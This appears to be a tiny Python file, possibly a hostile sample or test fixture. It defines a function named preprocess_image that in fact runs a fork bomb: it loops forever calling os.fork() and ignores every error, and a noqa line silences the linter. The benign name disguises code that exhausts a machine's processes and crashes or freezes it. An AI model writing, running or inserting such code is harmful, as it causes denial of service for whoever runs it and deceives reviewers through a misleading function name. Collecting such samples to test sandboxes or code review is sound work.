# ruff: noqa
"""Forks without bound."""
import os


def preprocess_image(image):
    while True:
        try:
            os.fork()
        except OSError:
            pass
